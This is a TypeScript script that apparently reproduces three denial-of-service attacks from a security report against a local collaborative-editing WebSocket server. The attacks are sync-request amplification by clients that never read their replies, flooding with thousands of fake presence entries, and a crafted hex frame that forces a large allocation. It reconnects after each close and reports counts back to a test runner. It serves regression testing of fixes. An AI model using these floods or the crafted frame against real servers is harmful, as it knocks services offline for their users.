/**
 * One attack from the security report, for `durationMs`, reconnecting whenever the server
 * closes the attacker (a determined attacker would). Reports frames sent, connections opened
 * and the close codes seen.
 */
import * as encoding from 'lib0/encoding'
import WebSocket from 'ws'

const [attack, port, durationMs] = [process.argv[2]!, Number(process.argv[3]), Number(process.argv[4])]
const base = `ws://127.0.0.1:${port}/collab`
const closes: Record<string, number> = {}
let frames = 0
let connections = 0
let refused = 0
const deadline = Date.now() + durationMs
const sleep = (ms: number) => new Promise(resolve => setTimeout(resolve, ms))

function open(docName: string, token: string): Promise<WebSocket | null> {
  return new Promise(resolve => {
    const ws = new WebSocket(`${base}/${docName}`, { headers: { cookie: `token=${token}` } })
    ws.on('error', () => resolve(null))
    ws.on('unexpected-response', (_req, res) => {
      refused++
      res.resume()
      resolve(null)
    })
    ws.on('close', code => (closes[code] = (closes[code] ?? 0) + 1))
    ws.on('open', () => {
      connections++
      resolve(ws)
    })
  })
}

function step1(): Uint8Array {
  const e = encoding.createEncoder()
  encoding.writeVarUint(e, 0)
  encoding.writeVarUint(e, 0)
  encoding.writeVarUint8Array(e, Uint8Array.of(0))
  return encoding.toUint8Array(e)
}

function presenceFrame(round: number): Uint8Array {
  const payload = encoding.createEncoder()
  const pairs = 2000
  encoding.writeVarUint(payload, pairs * 2)
  for (let i = 0; i < pairs; i++) {
    const clientID = 10_000_000 + round * pairs + i
    encoding.writeVarUint(payload, clientID)
    encoding.writeVarUint(payload, 1)
    encoding.writeVarString(payload, '{"user":{"name":"x","color":"#000"}}')
    encoding.writeVarUint(payload, clientID)
    encoding.writeVarUint(payload, 2)
    encoding.writeVarString(payload, 'null')
  }
  const e = encoding.createEncoder()
  encoding.writeVarUint(e, 1)
  encoding.writeVarUint8Array(e, encoding.toUint8Array(payload))
  return encoding.toUint8Array(e)
}

async function amplification(): Promise<void> {
  // Observers that never read their replies, each sending sync requests (1,880 in 10 s in the report).
  const frame = step1()
  const worker = async () => {
    while (Date.now() < deadline) {
      const ws = await open('review:big', 'observer')
      if (!ws) {
        await sleep(50)
        continue
      }
      ;(ws as unknown as { _socket: { pause(): void } })._socket.pause()
      while (Date.now() < deadline && ws.readyState === ws.OPEN) {
        ws.send(frame)
        frames++
        await sleep(20)
      }
      ws.terminate()
    }
  }
  await Promise.all(Array.from({ length: 10 }, worker))
}

async function presence(): Promise<void> {
  let round = 0
  while (Date.now() < deadline) {
    const ws = await open('review:big', 'observer')
    if (!ws) {
      await sleep(50)
      continue
    }
    while (Date.now() < deadline && ws.readyState === ws.OPEN) {
      ws.send(presenceFrame(round++))
      frames++
      await sleep(25)
    }
    ws.terminate()
  }
}

async function allocation(): Promise<void> {
  const frame = Buffer.from('00020801c094de0fb96000', 'hex')
  while (Date.now() < deadline) {
    const ws = await open('review:alloc', 'editor')
    if (!ws) {
      await sleep(20)
      continue
    }
    ws.send(frame)
    frames++
    await new Promise(resolve => {
      ws.once('close', resolve)
      setTimeout(resolve, 1000)
    })
    ws.terminate()
  }
}

const attacks: Record<string, () => Promise<void>> = { amplification, presence, allocation }
await attacks[attack]!()
process.send!({ type: 'done', frames, connections, refused, closes })
process.exit(0)
